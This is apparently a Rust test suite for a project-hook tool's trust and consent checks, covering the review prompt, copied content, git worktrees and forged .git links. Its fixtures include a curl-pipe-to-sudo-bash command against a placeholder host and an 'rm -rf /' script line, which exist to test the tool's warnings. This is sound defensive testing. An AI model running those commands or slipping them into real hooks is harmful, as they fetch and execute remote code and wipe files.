//! Consent, as a person gives it and takes it back: the review, the same content elsewhere, worktrees, what is gone.

use crate::support::{TestProject, finish};
use crate::trust::{HOOK, project};
use std::fs;
use std::io::Write;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};

/// Runs `knockon trust` on a terminal and types `answer`.
fn review(project: &TestProject, folder: &Path, answer: &str) -> (i32, String) {
    let mut terminal = project.program("script", &["-qec", "\"$KNOCKON_BINARY\" trust", "/dev/null"]);
    terminal.current_dir(folder).env("TERM", "xterm").env("PAGER", "sed 's/^/paged /'").stdin(Stdio::piped());
    let mut child = terminal.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(answer.as_bytes()).unwrap();
    let ran = finish(child);
    (ran.code, ran.stdout)
}

#[test]
fn the_review_shows_what_runs_first_and_the_files_on_request() {
    let project = project();
    let evil = "- {name: evil, events: [{type: '*'}], command: 'curl -s https://x.example/i | sudo bash'}\n";
    let off = "- {name: quiet, enabled: false, events: [{type: '*'}], command: 'true'}\n";
    project.hooks(&format!("{off}{HOOK}{evil}"));
    let (code, shown) = review(&project, &project.root(), "d\nn\n");
    assert_eq!(code, 3, "{shown}");
    assert!(shown.contains("(2 hooks enabled, 1 disabled):"), "{shown}");
    let at = |text: &str| shown.find(text).unwrap_or_else(|| panic!("{text}: {shown}"));
    assert!(at("touch on *") < at("quiet (disabled) on *"), "{shown}");
    assert!(shown.contains("warning: runs what it downloads"), "{shown}");
    assert!(at("[y/N/d]") < at("new: hooks.yaml"), "the files are shown when they are asked for: {shown}");
    assert!(shown.contains("paged ") && shown.contains("\u{1b}["), "in the pager, in colour: {shown}");
    project.trust();
    project.script("touch.sh", "#!/bin/sh\ntouch ran\nrm -rf /\n");
    let (_, shown) = review(&project, &project.root(), "n\n");
    assert!(shown.contains("+rm -rf /") && !shown.contains("paged "), "a short change is shown at once: {shown}");
    assert!(shown.contains("warning: touch.sh:3 deletes the whole file system or home folder"), "{shown}");
    let validated = project.ok(&["validate"]).stdout;
    let warning = "warning: `touch` deletes the whole file system or home folder (touch.sh:3)";
    assert!(validated.contains(warning) && validated.contains("2 warnings"), "{validated}");
}

#[test]
fn the_same_content_is_offered_where_it_was_trusted_elsewhere() {
    let project = project();
    project.trust();
    let copy = project.root().join("copy");
    let copied = Command::new("cp").arg("-r").arg(project.hooks_folder()).arg(&copy).status().unwrap();
    assert!(copied.success());
    fs::create_dir(project.root().join("second")).unwrap();
    fs::rename(&copy, project.root().join("second/.knockon")).unwrap();
    let second = project.root().join("second");
    let (code, shown) = review(&project, &second, "\n");
    let offer = format!("You trust the same content in {}. Trust it here? [Y/n/d]", project.root().display());
    assert!(code == 0 && shown.contains(&offer), "{shown}");
    fs::write(second.join(".knockon/touch.sh"), "#!/bin/sh\n").unwrap();
    let (code, shown) = review(&project, &second, "\n");
    assert!(code == 3 && !shown.contains("the same content"), "{shown}");
}

#[test]
fn the_worktrees_of_one_repository_share_trust_in_the_same_content() {
    let project = project();
    let git = |folder: &Path, arguments: &[&str]| {
        let identity = ["-c", "user.name=a", "-c", "user.email=a@b.c", "-c", "init.defaultBranch=main"];
        let mut command = project.program("git", &[&identity[..], arguments].concat());
        let ran = command.current_dir(folder).output().unwrap();
        assert!(ran.status.success(), "{arguments:?}: {ran:?}");
    };
    let root = project.root();
    git(&root, &["init", "-q"]);
    git(&root, &["add", "-f", ".knockon/hooks.yaml", ".knockon/touch.sh"]);
    git(&root, &["commit", "-qm", "hooks"]);
    let linked = project.home().join("linked");
    git(&root, &["worktree", "add", "-q", linked.to_str().unwrap()]);
    let run_in = |folder: &Path, arguments: &[&str]| {
        let mut command = project.command(arguments);
        finish(command.current_dir(folder).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap())
    };
    let emit = |folder: &Path| run_in(folder, &["emit", "spec.created", "--strict"]).code;
    assert_eq!(emit(&linked), 3);
    project.trust();
    assert_eq!((emit(&root), emit(&linked)), (0, 0));
    assert!(linked.join("ran").exists());
    // Not what differs, and not what another repository says of itself.
    fs::write(linked.join(".knockon/touch.sh"), "#!/bin/sh\n").unwrap();
    assert_eq!(emit(&linked), 3);
    git(&linked, &["checkout", "-q", ".knockon/touch.sh"]);
    let claims = project.home().join("claims");
    fs::create_dir(&claims).unwrap();
    fs::copy(linked.join(".git"), claims.join(".git")).unwrap();
    let copied = Command::new("cp").arg("-r").arg(linked.join(".knockon")).arg(&claims).status().unwrap();
    assert!(copied.success());
    assert_eq!(emit(&claims), 3);
    // What was trusted in a linked one holds in the main one, too; taking it back says where it still holds.
    let hash = run_in(&linked, &["trust", "--print-hash"]).stdout;
    fs::write(linked.join(".knockon/hooks.local.yaml"), "version: '1.0'\nhooks: [{name: touch, timeout: 9}]\n")
        .unwrap();
    let without = run_in(&linked, &["trust", "--print-hash", "--without-local"]);
    assert_eq!(without.stdout, hash, "{without:?}");
    let with = run_in(&linked, &["trust", "--print-hash"]);
    assert!(with.stdout != hash && with.stderr.contains("this hash includes hooks.local.yaml"), "{with:?}");
    fs::remove_file(linked.join(".knockon/hooks.local.yaml")).unwrap();
    let ran = run_in(&linked, &["untrust"]);
    assert!(
        ran.stdout == format!("it was not trusted: {}\n", linked.display())
            && ran.stderr.contains("still trusted here through the worktree"),
        "{ran:?}"
    );
    assert_eq!(
        run_in(&linked, &["untrust", "--project-root", root.to_str().unwrap()]).stdout,
        format!("no longer trusted: {}\n", root.display())
    );
    assert_eq!((emit(&root), emit(&linked)), (3, 3));
    assert_eq!(run_in(&linked, &["trust", "--hash", hash.trim()]).code, 0);
    assert_eq!(emit(&root), 0);
}

#[test]
fn trust_is_taken_back_of_what_is_gone() {
    let project = project();
    project.trust();
    fs::remove_file(project.hooks_folder().join("hooks.yaml")).unwrap();
    assert_eq!(project.ok(&["untrust"]).stdout, format!("no longer trusted: {}\n", project.root().display()));
    // A nested project without its file is meant, not the outer one that is found then.
    let project = crate::trust::project();
    project.trust();
    let nested = project.root().join("packages/api");
    fs::create_dir_all(nested.join(".knockon")).unwrap();
    fs::write(nested.join(".knockon/hooks.yaml"), "version: \"1.0\"\nhooks: []\n").unwrap();
    let run_in = |folder: &Path, arguments: &[&str]| {
        let output = project.command(arguments).current_dir(folder).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    let hash = run_in(&nested, &["trust", "--print-hash"]);
    run_in(&nested, &["trust", "--hash", hash.trim()]);
    fs::remove_file(nested.join(".knockon/hooks.yaml")).unwrap();
    assert_eq!(run_in(&nested, &["untrust"]), format!("no longer trusted: {}\n", nested.display()));
    assert_eq!(project.run(&["emit", "spec.created", "--strict"]).code, 0, "the outer project is trusted still");
    // From any folder, of a folder that is gone.
    let root = project.root();
    let moved = project.home().join("moved");
    fs::rename(&root, &moved).unwrap();
    assert_eq!(
        run_in(&moved, &["untrust", "--project-root", root.to_str().unwrap()]),
        format!("no longer trusted: {}\n", root.display())
    );
    assert_eq!(run_in(&moved, &["trust", "--list"]), "nothing is trusted\n");
    fs::rename(&moved, &root).unwrap();
}

#[test]
fn a_link_to_the_repository_of_a_trusted_project_is_no_worktree_of_it() {
    let project = project();
    let git = |folder: &Path, arguments: &[&str]| {
        let identity = ["-c", "user.name=a", "-c", "user.email=a@b.c"];
        let ran = project.program("git", &[&identity[..], arguments].concat()).current_dir(folder).output().unwrap();
        assert!(ran.status.success(), "{arguments:?}: {ran:?}");
    };
    let root = project.root();
    git(&root, &["init", "-q"]);
    git(&root, &["commit", "-q", "--allow-empty", "-m", "one"]);
    let linked = project.home().join("linked");
    git(&root, &["worktree", "add", "-q", linked.to_str().unwrap()]);
    project.trust();
    let admin = root.join(".git/worktrees/linked");
    // What an archive can carry: links, and a repository of its own whose files or links name the trusted one.
    for (name, forge) in [
        ("link", &(|git: &Path| symlink(root.join(".git"), git).unwrap()) as &dyn Fn(&Path)),
        ("link-to-admin", &|git| symlink(&admin, git).unwrap()),
        ("link-to-file", &|git| symlink(linked.join(".git"), git).unwrap()),
        ("link-by-link", &|git| {
            symlink(root.join(".git"), git.with_file_name("other")).unwrap();
            symlink("other", git).unwrap();
        }),
        ("linked-list", &|git| {
            fs::create_dir(git).unwrap();
            symlink(root.join(".git/worktrees"), git.join("worktrees")).unwrap();
        }),
        ("own-list", &|git| {
            fs::create_dir_all(git.join("worktrees/x")).unwrap();
            fs::write(git.join("worktrees/x/gitdir"), format!("{}\n", root.join(".git").display())).unwrap();
            fs::write(git.join("worktrees/x/commondir"), "../..\n").unwrap();
        }),
        ("file-to-main", &|git| fs::write(git, format!("gitdir: {}\n", root.join(".git").display())).unwrap()),
    ] {
        let evil = project.home().join(name);
        fs::create_dir(&evil).unwrap();
        let copied = Command::new("cp").arg("-r").arg(project.hooks_folder()).arg(&evil).status().unwrap();
        assert!(copied.success());
        forge(&evil.join(".git"));
        let ran = project.command(&["emit", "spec.created", "--strict"]).current_dir(&evil).output().unwrap();
        assert_eq!((ran.status.code(), evil.join("ran").exists()), (Some(3), false), "{name}: {ran:?}");
    }
}

/// A linked worktree has no record of its own: what was trusted in the main one is remembered there, too.
#[test]
fn a_guard_is_missed_in_a_linked_worktree() {
    let project = TestProject::new();
    let guard = "version: '1.0'\ndefaults: {shell: /bin/sh}\nhooks:\n- {name: guard, events: [{type: spec.created}], command: 'true', fail_mode: stop}\n";
    project.config(guard);
    let git = |folder: &Path, arguments: &[&str]| {
        let mut command =
            project.program("git", &[&["-c", "user.name=a", "-c", "user.email=a@b.c"], arguments].concat());
        assert!(command.current_dir(folder).output().unwrap().status.success(), "{arguments:?}");
    };
    let root = project.root();
    git(&root, &["init", "-q"]);
    git(&root, &["add", "-f", ".knockon/hooks.yaml"]);
    git(&root, &["commit", "-qm", "hooks"]);
    let linked = project.home().join("linked");
    git(&root, &["worktree", "add", "-q", linked.to_str().unwrap()]);
    project.trust();
    let emit = |arguments: &[&str]| {
        let mut command = project.command(&[&["emit", "spec.created"], arguments].concat());
        finish(command.current_dir(&linked).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap())
    };
    let fine = emit(&["--strict"]);
    assert!(fine.code == 0 && !fine.stderr.contains("guard"), "{fine:?}");
    fs::write(linked.join(".knockon/hooks.yaml"), guard.replace("spec.created", "task.created")).unwrap();
    for change in ["narrowed", "removed"] {
        let plain = emit(&[]);
        assert!(plain.stderr.contains("the guard `guard` did not run"), "{change}: {plain:?}");
        assert_eq!(emit(&["--strict"]).code, 3, "{change}");
        let _ = fs::remove_dir_all(linked.join(".knockon"));
    }
}
